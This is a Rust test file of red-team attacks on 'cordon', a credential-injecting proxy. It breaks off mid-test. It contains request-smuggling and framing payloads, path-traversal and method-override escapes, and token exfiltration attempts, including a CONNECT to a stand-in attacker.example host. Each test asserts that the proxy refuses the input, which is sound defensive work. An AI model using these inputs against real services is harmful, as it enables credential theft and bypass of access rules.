//! Red-team attacks on termination (issue 30), at the proxy's byte level: reflections of the
//! real value in forms the reverse scan must still catch (compressed, percent-encoded, split),
//! request smuggling and framing games inside a terminated tunnel, ALPN h2, and request-rule
//! escapes. Each asserts the exact refusal (status, `X-Cordon-Refused`, record) or that the value
//! never reaches the tool.
//!
//! # Layout
//! A scripted HTTPS upstream (a closure answers each request), a proxy with one header secret
//! bound to it, a raw TLS client through `CONNECT`, then the attacks.

use super::*;

/// The upstream's answer to a request (its head and body as text): pieces written apart.
type Responder = Arc<dyn Fn(&str) -> Vec<Vec<u8>> + Send + Sync>;

/// An HTTPS upstream on 127.0.0.1 (keep-alive) that answers each request with `respond`.
async fn scripted(config: Arc<ServerConfig>, respond: Responder) -> (u16, Seen) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen: Seen = Arc::default();
    let acceptor = tokio_rustls::TlsAcceptor::from(config);
    let log = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else { return };
            let (acceptor, log, respond) = (acceptor.clone(), log.clone(), respond.clone());
            tokio::spawn(async move {
                let Ok(mut s) = acceptor.accept(tcp).await else { return };
                let mut buf = Vec::new();
                let more = async |s: &mut tokio_rustls::server::TlsStream<TcpStream>, buf: &mut Vec<u8>| {
                    let mut b = [0u8; 4096];
                    match s.read(&mut b).await {
                        Ok(0) | Err(_) => false,
                        Ok(n) => {
                            buf.extend_from_slice(&b[..n]);
                            true
                        }
                    }
                };
                loop {
                    let end = loop {
                        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                            break i + 4;
                        }
                        if !more(&mut s, &mut buf).await {
                            return;
                        }
                    };
                    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
                    buf.drain(..end);
                    let lower = head.to_ascii_lowercase();
                    let body: Vec<u8> = if lower.contains("transfer-encoding: chunked") {
                        let end = loop {
                            if buf.starts_with(b"0\r\n\r\n") {
                                break 5;
                            }
                            if let Some(i) = buf.windows(7).position(|w| w == b"\r\n0\r\n\r\n") {
                                break i + 7;
                            }
                            if !more(&mut s, &mut buf).await {
                                return;
                            }
                        };
                        buf.drain(..end).collect()
                    } else {
                        let length = lower
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:").map(|v| v.trim().to_string()))
                            .and_then(|v| v.parse::<usize>().ok())
                            .unwrap_or(0);
                        while buf.len() < length {
                            if !more(&mut s, &mut buf).await {
                                return;
                            }
                        }
                        buf.drain(..length).collect()
                    };
                    let got = format!("{head}{}", String::from_utf8_lossy(&body));
                    log.lock().unwrap().push(got.clone());
                    for piece in respond(&got) {
                        if s.write_all(&piece).await.is_err() || s.flush().await.is_err() {
                            return;
                        }
                        tokio::time::sleep(Duration::from_millis(30)).await;
                    }
                }
            });
        }
    });
    (port, seen)
}

/// A response with `body` (and `headers`), framed by its length.
fn reply(status: &str, headers: &str, body: &[u8]) -> Vec<Vec<u8>> {
    let mut r = format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\n\r\n", body.len()).into_bytes();
    r.extend_from_slice(body);
    vec![r]
}

/// `data` through gzip(1).
fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = std::process::Command::new("gzip")
        .args(["-c", "-n"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(data).unwrap();
    child.wait_with_output().unwrap().stdout
}

struct Red {
    port: u16,
    seen: Seen,
    tls: Tls,
}

/// A proxy whose secret `tok` (header `authorization`, value `value`) is bound to a scripted
/// upstream (with `rules`, if any).
async fn red(value: &str, respond: Responder, rules: Option<RequestRules>) -> Red {
    let ca = pki("upstream test CA");
    let (port, seen) = scripted(leaf(&ca, &["localhost"]), respond).await;
    let dir = tempfile::tempdir().unwrap();
    let ca_file = file(dir.path(), "upstream-ca.pem", &ca.pem, 0o644);
    let host = format!("localhost:{port}");
    let mut rules_of = egress(&[host.clone(), format!("127.0.0.1:{port}")]);
    rules_of.http.push(HostHttp { rule: parse_rule(&host).unwrap(), requests: rules, upstream_ca: Some(ca_file) });
    let secrets =
        vec![secret("tok", PH_TOK, value, std::slice::from_ref(&host), Placement::Header("authorization".into()))];
    let tls = proxy(rules_of, secrets, Some(Authority::generate("test").unwrap()), dir).await;
    Red { port, seen, tls }
}

/// The echo: the request as the upstream got it, in the body.
fn echo() -> Responder {
    Arc::new(|got: &str| reply("200 OK", "", got.as_bytes()))
}

/// A TLS client trusting cordon's CA, through `CONNECT localhost:port`: writes `pieces` (apart)
/// and reads until the proxy closes (or 10 s). `Err`: the handshake failed.
async fn raw(t: &Tls, port: u16, alpn: &[&[u8]], pieces: &[&[u8]]) -> Result<String, String> {
    raw_to(t, &format!("localhost:{port}"), "localhost", alpn, pieces).await
}

/// [`raw`] with the `CONNECT` target and the TLS server name of the caller's choice.
async fn raw_to(t: &Tls, target: &str, sni: &str, alpn: &[&[u8]], pieces: &[&[u8]]) -> Result<String, String> {
    let mut c = TcpStream::connect(t.addr).await.unwrap();
    c.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes()).await.unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut b = [0u8; 1];
        c.read_exact(&mut b).await.unwrap();
        head.push(b[0]);
    }
    assert!(head.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&head));
    let mut roots = rustls::RootCertStore::empty();
    roots.add(t.authority.as_ref().unwrap().cert_der().to_vec().into()).unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
    let name = rustls::pki_types::ServerName::try_from(sni.to_string()).unwrap();
    let mut s = tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, c).await.map_err(|e| e.to_string())?;
    if let Some(p) = s.get_ref().1.alpn_protocol() {
        assert_eq!(p, b"http/1.1", "the proxy negotiates HTTP/1.1 only");
    }
    for p in pieces {
        if s.write_all(p).await.is_err() {
            break;
        }
        let _ = s.flush().await;
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), async {
        let mut b = [0u8; 4096];
        while let Ok(n @ 1..) = s.read(&mut b).await {
            out.extend_from_slice(&b[..n]);
        }
    })
    .await;
    Ok(String::from_utf8_lossy(&out).into_owned())
}

fn refused_with(out: &str, status: u16, kind: &str) {
    assert!(
        out.starts_with(&format!("HTTP/1.1 {status} ")) && out.contains(&format!("X-Cordon-Refused: {kind}\r\n")),
        "want {status} {kind}: {out}"
    );
}

const SECRET_VALUE: &str = "REAL/TOKEN+123=";

fn no_value(out: &str) {
    let pct = "REAL%2FTOKEN%2B123%3D";
    for v in [SECRET_VALUE, TOKEN, pct, &pct.to_ascii_lowercase(), "UkVBTC9UT0tFTisxMjM9"] {
        assert!(!out.contains(v), "the value ({v}) reached the tool: {out}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compressed_reflection_never_carries_the_value_to_the_tool() {
    // The upstream compresses when asked (as GitHub's API does), reflecting the request.
    let respond: Responder = Arc::new(|got: &str| {
        let lower = got.to_ascii_lowercase();
        if lower.lines().any(|l| l.starts_with("accept-encoding:") && l.contains("gzip")) {
            reply("200 OK", "Content-Encoding: gzip\r\n", &gzip(got.as_bytes()))
        } else {
            reply("200 OK", "", got.as_bytes())
        }
    });
    let r = red(SECRET_VALUE, respond, None).await;
    let url = format!("https://localhost:{}/echo", r.port);
    let h = format!("Authorization: Bearer {PH_TOK}");
    let (out, err) = tokio::task::block_in_place(|| r.tls.curl(&["--compressed", "-H", &h, &url]));
    assert!(out.contains("HTTP/1.1 200 OK"), "{out}\n{err}");
    no_value(&out);
    assert!(out.contains(&format!("Bearer {PH_TOK}")), "the reflection shows the placeholder: {out}");
    let seen = seen(&r.seen);
    assert!(seen[0].contains(&format!("Bearer {SECRET_VALUE}")), "{seen:?}");
    let (_, records) = r.tls.finish().await;
    assert!(!serde_json::to_string(&records).unwrap().contains(SECRET_VALUE));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upstream_that_encodes_its_body_anyway_is_refused() {
    for (header, body) in [
        ("Content-Encoding: gzip\r\n", None),
        ("Content-Encoding: deflate\r\n", None),
        ("Transfer-Encoding: gzip, chunked\r\n", Some(())),
    ] {
        let respond: Responder = Arc::new(move |got: &str| {
            let z = gzip(got.as_bytes());
            match body {
                None => reply("200 OK", header, &z),
                Some(()) => {
                    let mut r = format!("HTTP/1.1 200 OK\r\n{header}\r\n{:x}\r\n", z.len()).into_bytes();
                    r.extend_from_slice(&z);
                    r.extend_from_slice(b"\r\n0\r\n\r\n");
                    vec![r]
                }
            }
        });
        let r = red(SECRET_VALUE, respond, None).await;
        let req = format!("GET / HTTP/1.1\r\nHost: localhost:{}\r\nAuthorization: Bearer {PH_TOK}\r\n\r\n", r.port);
        let out = raw(&r.tls, r.port, &[], &[req.as_bytes()]).await.unwrap();
        refused_with(&out, 502, "upstream");
        assert!(out.contains("encoding"), "{out}");
        let (_, records) = r.tls.finish().await;
        let rec = records.iter().find(|r| r["decision"] == "egress_request").unwrap();
        assert_eq!(rec["status"], 502, "{rec}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reflections_in_headers_redirects_cookies_and_split_chunks_show_the_placeholder() {
    let respond: Responder = Arc::new(|got: &str| {
        let auth = got.lines().find_map(|l| l.strip_prefix("Authorization: Bearer ")).unwrap_or("-").to_string();
        let pct: String = auth
            .bytes()
            .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
            .collect();
        let body = format!("{{\"token\":\"{auth}\",\"pct\":\"{pct}\",\"lower\":\"{}\"}}", pct.to_ascii_lowercase());
        // Chunked, the value split over two chunks written apart.
        let half = body.len() / 2 + 3;
        let head = format!(
            "HTTP/1.1 302 Found\r\nLocation: https://login.test/?next=/x&t={pct}\r\nSet-Cookie: t={auth}; Path=/\r\n\
             Transfer-Encoding: chunked\r\n\r\n"
        );
        vec![
            head.into_bytes(),
            format!("{:x}\r\n{}\r\n", half, &body[..half]).into_bytes(),
            format!("{:x}\r\n{}\r\n0\r\n\r\n", body.len() - half, &body[half..]).into_bytes(),
        ]
    });
    let r = red(SECRET_VALUE, respond, None).await;
    let req = format!("GET / HTTP/1.1\r\nHost: localhost:{}\r\nAuthorization: Bearer {PH_TOK}\r\n\r\n", r.port);
    let out = raw(&r.tls, r.port, &[], &[req.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 302 Found"), "{out}");
    no_value(&out);
    assert!(out.contains(&format!("Set-Cookie: t={PH_TOK};")), "{out}");
    assert!(out.contains(&format!("\"token\":\"{}", &PH_TOK[..4])), "{out}");
    r.tls.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn smuggling_and_framing_games_inside_a_terminated_tunnel_are_refused() {
    let r = red(SECRET_VALUE, echo(), None).await;
    let host = format!("Host: localhost:{}\r\n", r.port);
    let auth = format!("Authorization: Bearer {PH_TOK}\r\n");
    for (req, status, kind) in [
        (
            format!("POST / HTTP/1.1\r\n{host}{auth}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
            400,
            "invalid-request",
        ),
        (
            format!("POST / HTTP/1.1\r\n{host}{auth}Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef"),
            400,
            "invalid-request",
        ),
        (format!("GET / HTTP/1.1\r\n{host}X-A: a\r\n {PH_TOK}\r\n\r\n"), 400, "invalid-request"),
        (
            format!("POST / HTTP/1.1\r\n{host}{auth}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
            501,
            "invalid-request",
        ),
        (
            format!(
                "POST / HTTP/1.1\r\n{host}{auth}Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            ),
            501,
            "invalid-request",
        ),
        (format!("POST / HTTP/1.1\r\n{host}{auth}Content-Length : 3\r\n\r\nabc"), 400, "invalid-request"),
        (format!("POST / HTTP/1.1\r\n{host}{auth}Transfer_Encoding: chunked\r\n\r\n0\r\n\r\n"), 400, "invalid-request"),
        (format!("POST / HTTP/1.1\r\n{host}{auth}Content-Length: +3\r\n\r\nabc"), 400, "invalid-request"),
        (format!("GET / HTTP/1.1\r\n{host}{auth}Expect: 100-continueX\r\n\r\n"), 417, "invalid-request"),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_string(), 400, "invalid-request"),
        (format!("CONNECT localhost:1 HTTP/1.1\r\n{host}{auth}\r\n"), 405, "invalid-request"),
        (format!("GET https://localhost:{}/ HTTP/1.1\r\n{host}{auth}\r\n", r.port), 400, "invalid-request"),
        (format!("GET / HTTP/1.1\r\nHost: other.test\r\n{auth}\r\n"), 403, "host-mismatch"),
        (format!("GET / HTTP/1.1\r\n{host}{host}{auth}\r\n"), 400, "invalid-request"),
        (format!("GET / HTTP/1.1\r\n{auth}\r\n"), 400, "invalid-request"),
        // The placeholder where it does not go: lowercase header name, split halves, a
        // percent-encoded path, the method, a second Authorization-ish header.
        (format!("GET / HTTP/1.1\r\n{host}authorization: Bearer x\r\nx-auth: {PH_TOK}\r\n\r\n"), 403, "exfiltration"),
        (format!("GET /a%2F{} HTTP/1.1\r\n{host}\r\n", PH_TOK.replace('-', "%2D")), 403, "exfiltration"),
        (format!("{PH_TOK} / HTTP/1.1\r\n{host}\r\n"), 403, "exfiltration"),
        (format!("GET /?authorization={PH_TOK} HTTP/1.1\r\n{host}\r\n"), 403, "exfiltration"),
        (format!("GET / HTTP/1.1\r\n{host}Cookie: a=1; t={PH_TOK}\r\n\r\n"), 403, "exfiltration"),
        (format!("GET / HTTP/1.1\r\n{host}{auth}Accept-Encoding: gzip, {PH_TOK}\r\n\r\n"), 403, "exfiltration"),
        (format!("GET / HTTP/1.1\r\n{host}Referer: https://x.test/{PH_TOK}\r\n\r\n"), 403, "exfiltration"),
    ] {
        let before = seen(&r.seen).len();
        let out = raw(&r.tls, r.port, &[], &[req.as_bytes()]).await.unwrap();
        refused_with(&out, status, kind);
        assert_eq!(seen(&r.seen).len(), before, "{req:?} reached the upstream");
    }
    assert!(seen(&r.seen).iter().all(|s| !s.contains(PH_TOK)));
    let (_, records) = r.tls.finish().await;
    assert!(!serde_json::to_string(&records).unwrap().contains(SECRET_VALUE));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn accepted_oddities_are_normalised_and_every_request_is_read() {
    let r = red(SECRET_VALUE, echo(), None).await;
    let p = r.port;
    let host = format!("Host: localhost:{p}\r\n");
    let auth = format!("Authorization: Bearer {PH_TOK}\r\n");
    // Bare LF line endings: read, put in, forwarded with CRLF, one request.
    let lf = format!("GET /lf HTTP/1.1\nHost: localhost:{p}\nAuthorization: Bearer {PH_TOK}\nConnection: close\n\n");
    let out = raw(&r.tls, p, &[], &[lf.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    no_value(&out);
    // Two requests pipelined in one write: the first goes, the second (placeholder elsewhere) is refused.
    let two = format!("GET /one HTTP/1.1\r\n{host}{auth}\r\nGET /two HTTP/1.1\r\n{host}X-Leak: {PH_TOK}\r\n\r\n");
    let out = raw(&r.tls, p, &[], &[two.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 200 OK") && out.matches("HTTP/1.1 ").count() == 2, "{out}");
    refused_with(&out[out.rfind("HTTP/1.1 403").unwrap()..], 403, "exfiltration");
    // Keep-alive: an allowed request, then the placeholder in the body of the next.
    let first = format!("GET /k1 HTTP/1.1\r\n{host}{auth}\r\n");
    let second = format!("POST /k2 HTTP/1.1\r\n{host}Content-Length: {}\r\n\r\nx={PH_TOK}", PH_TOK.len() + 2);
    let out = raw(&r.tls, p, &[], &[first.as_bytes(), second.as_bytes()]).await.unwrap();
    refused_with(&out[out.rfind("HTTP/1.1 ").unwrap()..], 403, "exfiltration");
    // Chunk extensions and trailers are not forwarded (so not scanned); a body chunk split
    // across the placeholder is refused.
    let chunked = format!(
        "POST /c HTTP/1.1\r\n{host}{auth}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n3;x={PH_TOK}\r\nabc\r\n0\r\nX-T: {PH_TOK}\r\n\r\n"
    );
    let out = raw(&r.tls, p, &[], &[chunked.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    let (a, b) = PH_TOK.split_at(7);
    let split = format!("POST /s HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n{:x}\r\nz{a}\r\n", a.len() + 1);
    let rest = format!("{:x}\r\n{b}\r\n0\r\n\r\n", b.len());
    let out = raw(&r.tls, p, &[], &[split.as_bytes(), rest.as_bytes()]).await.unwrap();
    refused_with(&out, 403, "exfiltration");
    // A chunk-size line too long: the body is cut, nothing answered 200.
    let long =
        format!("POST /l HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n00000000000000003\r\nabc\r\n0\r\n\r\n");
    let out = raw(&r.tls, p, &[], &[long.as_bytes()]).await.unwrap();
    assert!(!out.contains("200 OK"), "{out}");
    // HTTP/1.0: put in, the connection closes after it.
    let old = format!("GET /old HTTP/1.0\r\n{host}{auth}\r\n");
    let out = raw(&r.tls, p, &[], &[old.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 200 OK") || out.starts_with("HTTP/1.0 200"), "{out}");
    no_value(&out);
    // Expect: 100-continue, then the placeholder in the body: 100, then the refusal.
    let expect =
        format!("POST /e HTTP/1.1\r\n{host}{auth}Expect: 100-continue\r\nContent-Length: {}\r\n\r\n", PH_TOK.len());
    let out = raw(&r.tls, p, &[], &[expect.as_bytes(), PH_TOK.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 100 Continue\r\n\r\n"), "{out}");
    refused_with(&out["HTTP/1.1 100 Continue\r\n\r\n".len()..], 403, "exfiltration");
    // Upgrade: the header is one hop's, never forwarded.
    let up = format!("GET /ws HTTP/1.1\r\n{host}{auth}Connection: Upgrade, close\r\nUpgrade: websocket\r\n\r\n");
    let out = raw(&r.tls, p, &[], &[up.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 200 OK") && !out.to_ascii_lowercase().contains("upgrade: websocket"), "{out}");
    // ALPN: h2 alone is refused in the handshake; h2 and http/1.1 gets http/1.1.
    assert!(raw(&r.tls, p, &[b"h2"], &[]).await.is_err(), "h2 alone negotiated");
    let out = raw(&r.tls, p, &[b"h2", b"http/1.1"], &[old.as_bytes()]).await.unwrap();
    assert!(out.contains(" 200 "), "{out}");
    let seen = seen(&r.seen);
    assert!(seen.iter().all(|s| !s.contains(PH_TOK) && !s.contains("\n\n")), "{seen:#?}");
    assert!(seen.iter().all(|s| !s.to_ascii_lowercase().contains("upgrade")), "{seen:#?}");
    let (_, records) = r.tls.finish().await;
    assert!(!serde_json::to_string(&records).unwrap().contains(SECRET_VALUE));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upstream_switching_protocols_is_not_forwarded() {
    let respond: Responder =
        Arc::new(|_: &str| vec![b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n".to_vec()]);
    let r = red(SECRET_VALUE, respond, None).await;
    let req = format!("GET / HTTP/1.1\r\nHost: localhost:{}\r\nAuthorization: Bearer {PH_TOK}\r\n\r\n", r.port);
    let out = raw(&r.tls, r.port, &[], &[req.as_bytes()]).await.unwrap();
    refused_with(&out, 502, "upstream");
    r.tls.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn request_rule_escapes_are_refused() {
    let rules = RequestRules { methods: vec!["GET".into()], paths: vec!["/repos/org/".into()] };
    let r = red(SECRET_VALUE, echo(), Some(rules)).await;
    let host = format!("Host: localhost:{}\r\n", r.port);
    for (line, extra) in [
        ("GET /repos/org/../other/x", ""),
        ("GET /repos/org/%2e%2e/other/x", ""),
        ("GET /repos/org/%2E%2E/other/x", ""),
        ("GET /repos/org/%252e%252e/other/x", ""),
        ("GET /repos/org/.%2e/other/x", ""),
        ("GET /repos/org;x/../other/x", ""),
        ("GET /repos/org/;/../../other", ""),
        ("GET //repos/org/x", ""),
        ("GET /repos//org/x", ""),
        ("GET /repos/org\\..\\..\\other", ""),
        ("GET /repos/org/%5c..%5cother", ""),
        ("GET /repos/org/%2f..%2fother", ""),
        ("GET /repos/org/x%00", ""),
        ("GET /repos/ORG/x", ""),
        ("OPTIONS *", ""),
        ("get /repos/org/x", ""),
        ("HEAD /repos/org/x", ""),
        ("DELETE /repos/org/x", ""),
        ("GET /repos/org/x", "X-HTTP-Method-Override: DELETE\r\n"),
        ("GET /repos/org/x", "X-HTTP-Method: DELETE\r\n"),
        ("GET /repos/org/x", "X-Method-Override: PUT\r\n"),
    ] {
        let req = format!("{line} HTTP/1.1\r\n{host}{extra}\r\n");
        let out = raw(&r.tls, r.port, &[], &[req.as_bytes()]).await.unwrap();
        assert!(
            out.starts_with("HTTP/1.1 403 ") && out.contains("X-Cordon-Refused: request-rule\r\n"),
            "{req:?}: {out}"
        );
    }
    assert!(seen(&r.seen).is_empty(), "{:#?}", seen(&r.seen));
    // A second request after an allowed first one, same TLS connection.
    let ok = format!("GET /repos/org/x HTTP/1.1\r\n{host}\r\n");
    let bad = format!("GET /repos/org/../../admin HTTP/1.1\r\n{host}\r\n");
    let out = raw(&r.tls, r.port, &[], &[ok.as_bytes(), bad.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    refused_with(&out[out.rfind("HTTP/1.1 ").unwrap()..], 403, "request-rule");
    // An override naming an allowed method goes.
    let same = format!("GET /repos/org/x HTTP/1.1\r\n{host}X-HTTP-Method-Override: GET\r\nConnection: close\r\n\r\n");
    let out = raw(&r.tls, r.port, &[], &[same.as_bytes()]).await.unwrap();
    assert!(out.starts_with("HTTP/1.1 200 OK"), "{out}");
    assert_eq!(seen(&r.seen).len(), 2);
    let (_, records) = r.tls.finish().await;
    let refused = records.iter().filter(|r| r["decision"] == "egress_request" && r["why"] == "request-rule").count();
    assert_eq!(refused, 22, "{records:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_method_overrides_are_checked_by_request_rules() {
    let port = crate::tests::upstream().await;
    let host = format!("localhost:{port}");
    let mut rules_of = egress(&[host.clone(), format!("127.0.0.1:{port}")]);
    let requests = RequestRules { methods: vec!["GET".into()], paths: vec!["/repos/org/".into()] };
    rules_of.http.push(HostHttp { rule: parse_rule(&host).unwrap(), requests: Some(requests), upstream_ca: None });
    let t = proxy(rules_of, Vec::new(), Some(Authority::generate("test").unwrap()), tempfile::tempdir().unwrap()).await;
    let url = format!("http://{host}/repos/org/x");
    // Absolute-form through the proxy.
    let (out, err) = tokio::task::block_in_place(|| t.curl(&["-H", "X-HTTP-Method-Override: DELETE", &url]));
    assert!(out.contains("HTTP/1.1 403") && out.contains("X-Cordon-Refused: request-rule"), "{out}\n{err}");
    let (out, err) = tokio::task::block_in_place(|| t.curl(&[&url]));
    assert!(out.contains("HTTP/1.1 200"), "{out}\n{err}");
    // Inside a tunnel.
    let connect = format!("CONNECT {host} HTTP/1.1\r\n\r\n");
    let get = format!("GET /repos/org/x HTTP/1.1\r\nHost: {host}\r\nx-method-override: PATCH\r\n\r\n");
    let out = slowly(t.addr, connect.as_bytes(), get.as_bytes()).await;
    assert!(out.contains("HTTP/1.1 403") && out.contains("request-rule"), "{out}");
    let (_, records) = t.finish().await;
    let refused: Vec<&Value> =
        records.iter().filter(|r| r["why"] == "request-rule" || r["end"] == "request-rule").collect();
    assert!(refused.len() >= 2, "{records:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_leaf_is_minted_for_a_name_that_is_not_bound_and_no_downgrade_carries_the_value() {
    let r = red(SECRET_VALUE, echo(), None).await;
    let p = r.port;
    let get = format!("GET / HTTP/1.1\r\nHost: localhost:{p}\r\nAuthorization: Bearer {PH_TOK}\r\n\r\n");
    // A bound name in CONNECT, another in the ClientHello: cut before any certificate.
    let e = raw_to(&r.tls, &format!("localhost:{p}"), "api2.test", &[], &[get.as_bytes()]).await;
    assert!(e.is_err(), "{e:?}");
    // The address (granted, nothing bound to it) with the bound name as SNI: not terminated.
    let e = raw_to(&r.tls, &format!("127.0.0.1:{p}"), "localhost", &[], &[get.as_bytes()]).await;
    assert!(e.is_err(), "{e:?}");
    assert!(r.tls.authority.as_ref().unwrap().cached().is_empty(), "{:?}", r.tls.authority.as_ref().unwrap().cached());
    // Plain HTTP in a tunnel to the bound host's port, the placeholder in its very place:
    // nothing is put in over plain HTTP, and it is refused there.
    let out = slowly(r.tls.addr, format!("CONNECT localhost:{p} HTTP/1.1\r\n\r\n").as_bytes(), get.as_bytes()).await;
    assert!(out.contains("HTTP/1.1 403") && out.contains("X-Cordon-Refused: exfiltration"), "{out}");
    // A placeholder in upper case in a CONNECT name (DNS names have no case).
    let upper = format!("CONNECT {}.attacker.example:443 HTTP/1.1\r\n\r\n", PH_TOK.to_ascii_uppercase());
    let out = slowly(r.tls.addr, upper.as_bytes(), b"").await;
    assert!(out.starts_with("HTTP/1.1 403") && out.contains("exfiltration"), "{out}");
    assert!(seen(&r.seen).is_empty(), "{:?}", seen(&r.seen));
    let (_, records) = r.tls.finish().await;
    assert!(records.iter().any(|r| r["end"] == "sni-mismatch"), "{records:#?}");
    assert!(!serde_json::to_string(&records).unwrap().contains(SECRET_VALUE));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_or_self_signed_upstream_gets_no_request() {
    let ca = pki("upstream test CA");
    let key = KeyPair::generate().unwrap();
    let mut params = CertificateParams::new(vec!["localhost".to_string()]).unwrap();
    params.not_before = rcgen::date_time_ymd(2000, 1, 1);
    params.not_after = rcgen::date_time_ymd(2001, 1, 1);
    let expired = params.signed_by(&key, &ca.issuer).unwrap();
    let self_key = KeyPair::generate().unwrap();
    let selfsigned = CertificateParams::new(vec!["localhost".to_string()]).unwrap().self_signed(&self_key).unwrap();
    for (cert, key) in [(expired, key), (selfsigned, self_key)] {
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let config = ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![cert.der().clone()],
                PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
            )
            .unwrap();
        let (port, seen_up) = scripted(Arc::new(config), echo()).await;
        let dir = tempfile::tempdir().unwrap();
        let ca_file = file(dir.path(), "upstream-ca.pem", &ca.pem, 0o644);
        let host = format!("localhost:{port}");
        let mut rules_of = egress(&[host.clone(), format!("127.0.0.1:{port}")]);
        rules_of.http.push(HostHttp { rule: parse_rule(&host).unwrap(), requests: None, upstream_ca: Some(ca_file) });
        let secrets = vec![secret(
            "tok",
            PH_TOK,
            SECRET_VALUE,
            std::slice::from_ref(&host),
            Placement::Header("authorization".into()),
        )];
        let t = proxy(rules_of, secrets, Some(Authority::generate("test").unwrap()), dir).await;
        let get = format!("GET / HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {PH_TOK}\r\n\r\n");
        let out = raw(&t, port, &[], &[get.as_bytes()]).await.unwrap();
        refused_with(&out, 502, "upstream-unverified");
        assert!(seen(&seen_up).is_empty());
        t.finish().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "RED TEAM: an upstream that reflects the value transformed (a slice per response, JSON \\u-escaped, hex) \
            shows it to the tool; the reverse scan finds only the value as it is and percent-encoded"]
async fn a_transformed_reflection_still_shows_the_value() {
    // An echo service bound by mistake: `/slice/N` answers bytes N..N+8 of the credential,
    // `/hex` its hex form, `/json` it JSON-escaped as \u00XX for each `/`, `+` and `=`.
    let respond: Responder = Arc::new(|got: &str| {
        let auth = got.lines().find_map(|l| l.strip_prefix("Authorization: Bearer ")).unwrap_or("-").to_string();
        let path = got.split_whitespace().nth(1).unwrap_or("/").to_string();
        let body = if let Some(n) = path.strip_prefix("/slice/") {
            let n: usize = n.parse().unwrap_or(0);
            auth.get(n..(n + 8).min(auth.len())).unwrap_or_default().to_string()
        } else if path == "/hex" {
            auth.bytes().map(|b| format!("{b:02x}")).collect()
        } else {
            auth.chars()
                .map(|c| if "/+=".contains(c) { format!("\\u{:04x}", c as u32) } else { c.to_string() })
                .collect()
        };
        reply("200 OK", "", body.as_bytes())
    });
    let r = red(SECRET_VALUE, respond, None).await;
    let mut rebuilt = String::new();
    for n in (0..SECRET_VALUE.len()).step_by(8) {
        let req = format!(
            "GET /slice/{n} HTTP/1.1\r\nHost: localhost:{}\r\nAuthorization: Bearer {PH_TOK}\r\nConnection: close\r\n\r\n",
            r.port
        );
        let out = raw(&r.tls, r.port, &[], &[req.as_bytes()]).await.unwrap();
        let body = out.split("\r\n\r\n").nth(1).unwrap_or_default();
        // The body is chunked (scanned): its one chunk's data.
        rebuilt.push_str(body.lines().nth(1).unwrap_or_default());
    }
    assert_ne!(rebuilt, SECRET_VALUE, "the tool rebuilt the value from slices");
    for path in ["/hex", "/json"] {
        let req = format!(
            "GET {path} HTTP/1.1\r\nHost: localhost:{}\r\nAuthorization: Bearer {PH_TOK}\r\nConnection: close\r\n\r\n",
            r.port
        );
